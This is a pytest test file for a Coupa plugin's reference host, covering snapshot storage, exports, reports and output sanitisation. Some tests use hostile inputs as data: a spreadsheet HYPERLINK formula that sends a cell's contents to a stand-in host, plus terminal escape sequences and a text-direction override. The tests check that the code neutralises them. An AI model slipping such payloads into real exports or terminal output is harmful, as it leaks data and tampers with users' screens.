"""The reference host's files and outputs as a reviewer meets them: partial runs never taken
for the whole tenant, other programs' databases left alone, outputs that cannot act on a
terminal or a spreadsheet, private files, and exports that scale."""

from __future__ import annotations

import csv
import io
import sqlite3
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from coupa_plugin.host.errors import ConfigurationError
from coupa_plugin.host.model import Grant, Resource, SyncRequest
from coupa_plugin.refhost._cli import main
from coupa_plugin.refhost._reports import RunDiff, write_diff, write_export, write_rows
from coupa_plugin.refhost._snapshot import SnapshotStore


def _user(uid: str, name: str = "A User") -> Resource:
    return Resource(
        type="user",
        id=uid,
        display_name=name,
        status="enabled",
        profile={"login": f"u{uid}", "active": True},
    )


def _run(store: SnapshotStore, request: SyncRequest, users: list[Resource]) -> None:
    with store.run("t", "p", request, None) as writer:
        for user in users:
            writer.add_resource(user)
            writer.add_grant(Grant(entitlement_id="role:2:member", principal_id=user.id))


def test_runs_narrowed_by_type_never_count_as_the_previous_full_run(tmp_path: Path) -> None:
    with SnapshotStore(tmp_path / "s.sqlite") as store:
        _run(store, SyncRequest(), [_user("1"), _user("2")])
        _run(store, SyncRequest(resource_types=frozenset({"role"})), [])
        _run(store, SyncRequest(), [_user("1"), _user("2")])
        earlier = store.complete_before("t", "p", 3)
    assert [r.run_id for r in earlier] == [1], "the --type run is no baseline"


@pytest.mark.parametrize(
    "schema", ["CREATE TABLE foo (x)", "CREATE VIEW v AS SELECT 1", "CREATE TABLE runs (x)"]
)
def test_another_programs_database_is_left_untouched(tmp_path: Path, schema: str) -> None:
    path = tmp_path / "other.sqlite"
    with sqlite3.connect(path) as conn:
        conn.execute(schema)
    path.chmod(0o644)
    before = path.read_bytes()
    with pytest.raises(ConfigurationError, match="not a snapshot file"):
        SnapshotStore(path)
    result = CliRunner().invoke(main, ["runs", "--snapshot", str(path)])
    assert result.exit_code == 3 and "not a snapshot file" in result.output
    assert path.read_bytes() == before and stat.S_IMODE(path.stat().st_mode) == 0o644
    assert not path.with_name("other.sqlite-wal").exists()


def test_an_export_finds_each_accounts_grants_by_index(tmp_path: Path) -> None:
    with SnapshotStore(tmp_path / "s.sqlite") as store:
        _run(store, SyncRequest(), [_user("1")])
        plan = " ".join(
            str(row["detail"])
            for row in store.query(
                "EXPLAIN QUERY PLAN SELECT * FROM grants WHERE run_id = 1 AND principal_id = '1'"
            )
        )
    assert "grants_by_principal" in plan, plan


def test_outputs_neither_run_formulas_nor_reach_the_terminal(tmp_path: Path) -> None:
    rows = [{"name": '=HYPERLINK("http://x/?"&A1,"click")', "other": "Nia \x1b]0;PWNED\x07"}]
    out = io.StringIO()
    write_rows(rows, ["name", "other"], "csv", out)
    (_header, row) = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[0].startswith("'=") and "\x1b" not in row[1] and "\x07" not in row[1]
    table = io.StringIO()
    write_rows([{"name": "[bold]x\u202e", "other": "\x1b[2J"}], ["name", "other"], "table", table)
    assert "\x1b" not in table.getvalue() and "\u202e" not in table.getvalue()
    assert "[bold]x" in table.getvalue(), "data is never read as markup"
    with SnapshotStore(tmp_path / "s.sqlite") as store:
        _run(store, SyncRequest(), [_user("1", name="@SUM(A1:A9)")])
        export = io.StringIO()
        write_export(store, 1, "csv", export)
    assert "'@SUM(A1:A9)" in export.getvalue()


def test_exports_and_reports_are_private_files(tmp_path: Path) -> None:
    snapshot = tmp_path / "s.sqlite"
    with SnapshotStore(snapshot) as store:
        _run(store, SyncRequest(), [_user("1"), _user("2")])
    out = tmp_path / "export.csv"
    out.write_text("old")
    out.chmod(0o644)
    args = ["--snapshot", str(snapshot), "--tenant", "t", "--plugin", "p"]
    result = CliRunner().invoke(main, ["export", *args, "--output", str(out)])
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and "old" not in out.read_text()
    html = tmp_path / "review.html"
    result = CliRunner().invoke(main, ["report", *args, "--output", str(html)])
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(html.stat().st_mode) == 0o600


class _ClosedPipe(io.StringIO):
    def write(self, text: str) -> int:
        raise BrokenPipeError

    def isatty(self) -> bool:
        return False


def test_a_table_into_a_closed_pipe_is_a_broken_pipe_not_an_exit() -> None:
    # the command line turns BrokenPipeError into a quiet exit 0; rich would exit with 1
    rows = [{"entitlement_id": "role:2:member", "principal_id": "1", "privileged": False}]
    diff = RunDiff(
        old_run=1,
        new_run=2,
        grants_added=rows,
        grants_removed=[],
        users_new=[],
        users_gone=[],
        users_enabled=[],
        users_disabled=[],
        entitlements_new=[],
        entitlements_gone=[],
    )
    with pytest.raises(BrokenPipeError):
        write_diff(diff, "table", _ClosedPipe())
    with pytest.raises(BrokenPipeError):
        write_rows(rows, ["entitlement_id"], "table", _ClosedPipe())


def test_an_output_that_is_the_snapshot_is_refused(tmp_path: Path) -> None:
    snapshot = tmp_path / "s.sqlite"
    with SnapshotStore(snapshot) as store:
        _run(store, SyncRequest(), [_user("1")])
    before = snapshot.read_bytes()
    args = ["--snapshot", str(snapshot), "--tenant", "t", "--plugin", "p"]
    for command in ("export", "report"):
        result = CliRunner().invoke(main, [command, *args, "--output", str(snapshot)])
        assert result.exit_code == 3 and "is the snapshot" in result.output, result.output
    assert snapshot.read_bytes() == before


def test_a_servers_words_in_an_error_cannot_act_on_the_terminal() -> None:
    from coupa_plugin.refhost._cli import _summary_line

    row = {"tenant": "t", "plugin": "p", "outcome": "failed", "error": "x\x1b]0;PWNED\x07\x1b[2J"}
    assert "\x1b" not in _summary_line(row) and "\x07" not in _summary_line(row)


def test_a_run_narrowed_by_type_says_so_in_its_report(tmp_path: Path) -> None:
    from coupa_plugin.refhost._review import gather_review
    from coupa_plugin.refhost._review_html import render_review

    with SnapshotStore(tmp_path / "s.sqlite") as store:
        _run(store, SyncRequest(), [_user("1")])
        _run(store, SyncRequest(resource_types=frozenset({"role"})), [_user("1")])
        review = gather_review(
            store, "t", "p", now=datetime.now(UTC), run_id=2, allow_partial=True
        )
    assert "Run 2 is not a full run (types=role)" in render_review(review)
